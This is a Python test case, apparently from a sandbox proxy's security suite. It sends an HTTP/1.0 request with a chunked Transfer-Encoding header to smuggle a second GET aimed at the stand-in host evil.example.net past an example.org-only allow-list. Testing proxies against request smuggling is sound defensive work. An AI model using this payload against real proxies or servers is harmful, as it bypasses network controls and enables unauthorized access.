# /// attack
# guarantee = "network"
# summary = "Smuggles a request behind chunks, which HTTP/1.0 does not have."
# reference = "RFC 9112, 6.1"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80"] } }
# refusal = { default = "proxy Transfer-Encoding must be" }
# ///

from kit import exchange, judge, target, url

lines = (
    f"POST {url('example.org', '/first')} HTTP/1.0", "Host: example.org", "Transfer-Encoding: chunked",
    "Connection: keep-alive", "", "0", "", f"GET /{target('MARKER')} HTTP/1.0", "Host: evil.example.net", "", "",
)  # fmt: skip
judge(exchange("example.org", "\r\n".join(lines).encode()))
